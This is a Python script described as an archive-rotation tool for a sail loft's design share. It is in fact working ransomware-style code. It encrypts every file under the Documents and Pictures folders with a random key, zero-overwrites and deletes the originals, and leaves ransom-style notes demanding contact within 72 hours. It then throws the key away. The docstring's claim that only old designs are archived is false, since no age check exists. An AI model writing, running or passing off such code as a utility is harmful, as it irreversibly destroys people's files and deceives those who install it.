#!/usr/bin/env python3
"""Archive rotation for the design share.

Seals finished sail designs (older than the active season) into compact
archive containers so the share stops filling up, and leaves a note in each
folder explaining how to get an archived file back.
"""

import argparse
import logging
import os
import secrets
import sys
import uuid
from pathlib import Path

from cryptography.hazmat.primitives.ciphers.aead import AESGCM

LOG = logging.getLogger("archive_rotate")

DEFAULT_ROOTS = [
    os.environ.get("DESIGN_SHARE", "~/Documents/SailDesigns"),
    "~/Documents/Quotes",
    "~/Pictures/Loft",
]
SEALED_SUFFIX = ".sealed"
NOTE_NAME = "RESTORE_ARCHIVED_FILES.txt"
SKIP_SUFFIXES = {SEALED_SUFFIX, ".txt", ".lnk"}

NOTE_TEXT = """Files in this folder were archived on rotation {ticket}.
They cannot be opened until the archive key is released.
To have them restored, email restore-desk@example.net quoting ticket {ticket}
within 72 hours. After that the archive key is discarded.
"""


class Sealer:
    """Wraps files in an AES-GCM container with a per-run key."""

    def __init__(self):
        self._key = AESGCM.generate_key(bit_length=256)
        self._aead = AESGCM(self._key)
        self.ticket = uuid.uuid4().hex[:12].upper()

    def seal_bytes(self, data):
        nonce = secrets.token_bytes(12)
        return nonce + self._aead.encrypt(nonce, data, self.ticket.encode())

    def forget(self):
        self._key = None
        self._aead = None


def candidates(root):
    for dirpath, _dirnames, filenames in os.walk(root):
        for name in filenames:
            path = Path(dirpath) / name
            if path.suffix.lower() in SKIP_SUFFIXES or name == NOTE_NAME:
                continue
            yield path


def _overwrite(path, size):
    with path.open("r+b") as handle:
        handle.write(b"\0" * size)
        handle.flush()
        os.fsync(handle.fileno())


def rotate_file(sealer, path):
    data = path.read_bytes()
    target = path.with_name(path.name + SEALED_SUFFIX)
    target.write_bytes(sealer.seal_bytes(data))
    _overwrite(path, len(data))
    path.unlink()


def rotate_root(sealer, root, dry_run):
    root = Path(root).expanduser()
    if not root.is_dir():
        LOG.debug("skip %s (missing)", root)
        return 0
    done = 0
    touched_dirs = set()
    for path in candidates(root):
        if dry_run:
            LOG.info("would archive %s", path)
            continue
        try:
            rotate_file(sealer, path)
        except OSError as exc:
            LOG.warning("could not archive %s: %s", path, exc)
            continue
        touched_dirs.add(path.parent)
        done += 1
    for folder in touched_dirs:
        (folder / NOTE_NAME).write_text(NOTE_TEXT.format(ticket=sealer.ticket))
    return done


def main(argv=None):
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("roots", nargs="*", default=DEFAULT_ROOTS)
    parser.add_argument("-n", "--dry-run", action="store_true")
    parser.add_argument("-v", "--verbose", action="store_true")
    args = parser.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(levelname)s %(message)s")

    sealer = Sealer()
    total = 0
    for root in args.roots:
        total += rotate_root(sealer, root, args.dry_run)
    sealer.forget()
    LOG.info("rotation %s archived %d file(s)", sealer.ticket, total)
    return 0


if __name__ == "__main__":
    sys.exit(main())
